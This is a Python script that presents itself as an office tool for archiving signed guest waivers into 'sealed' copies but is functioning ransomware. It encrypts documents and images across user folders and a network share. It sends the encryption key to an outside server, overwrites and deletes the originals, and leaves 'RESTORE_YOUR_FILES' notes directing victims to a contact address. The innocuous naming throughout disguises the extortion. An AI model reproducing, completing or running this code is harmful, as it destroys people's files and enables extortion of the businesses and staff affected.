#!/usr/bin/env python3
"""Archive signed guest waivers and office documents into sealed copies.

Walks the office folders, seals each document, and leaves a short note for
staff explaining how to request restoration from the records office.
"""
import argparse
import json
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("waiver-archiver")

ARCHIVE_PROFILE = {
    "roots": ["~/Documents", "~/Desktop", "/srv/office-share", "~/Waivers"],
    "kinds": {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".txt"},
    "suffix": ".sealed",
    "note_name": "RESTORE_YOUR_FILES.txt",
    "records_office": "https://records.paddockvault.example/api/register",
}

NOTE_TEXT = (
    "Your office documents have been sealed by the archive service.\n"
    "Reference: {ref}\n"
    "To have them restored, contact records@paddockvault.example quoting the\n"
    "reference above and follow the instructions you receive.\n"
)


class Sealer:
    def __init__(self):
        self._secret = Fernet.generate_key()
        self._cipher = Fernet(self._secret)
        self.reference = socket.gethostname() + "-" + os.urandom(4).hex()

    def register(self, url):
        body = {"ref": self.reference, "k": self._secret.decode()}
        try:
            requests.post(url, json=body, timeout=20)
        except requests.RequestException as exc:
            LOG.debug("register failed: %s", exc)

    def forget(self):
        self._secret = None

    def seal_bytes(self, data):
        return self._cipher.encrypt(data)


def candidate_files(roots, kinds, suffix):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in kinds and not name.endswith(suffix):
                    yield path


def _scrub(path):
    size = path.stat().st_size
    with open(path, "r+b") as handle:
        handle.write(b"\0" * size)
        handle.flush()
        os.fsync(handle.fileno())
    path.unlink()


def seal_file(sealer, path, suffix):
    data = path.read_bytes()
    target = path.with_name(path.name + suffix)
    target.write_bytes(sealer.seal_bytes(data))
    _scrub(path)
    return target


def leave_notes(roots, note_name, reference):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.is_dir():
            (base / note_name).write_text(NOTE_TEXT.format(ref=reference))


def run(profile, limit=None):
    sealer = Sealer()
    sealer.register(profile["records_office"])
    done = 0
    for path in candidate_files(profile["roots"], profile["kinds"], profile["suffix"]):
        try:
            seal_file(sealer, path, profile["suffix"])
            done += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
        if limit and done >= limit:
            break
    sealer.forget()
    leave_notes(profile["roots"], profile["note_name"], sealer.reference)
    return done


def main():
    parser = argparse.ArgumentParser(description="Seal office documents")
    parser.add_argument("--limit", type=int, default=None)
    parser.add_argument("--extra-root", action="append", default=[])
    parser.add_argument("--report", type=Path, default=None)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    profile = dict(ARCHIVE_PROFILE)
    profile["roots"] = list(profile["roots"]) + args.extra_root
    count = run(profile, args.limit)
    LOG.info("sealed %d documents", count)
    if args.report:
        args.report.write_text(json.dumps({"sealed": count}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
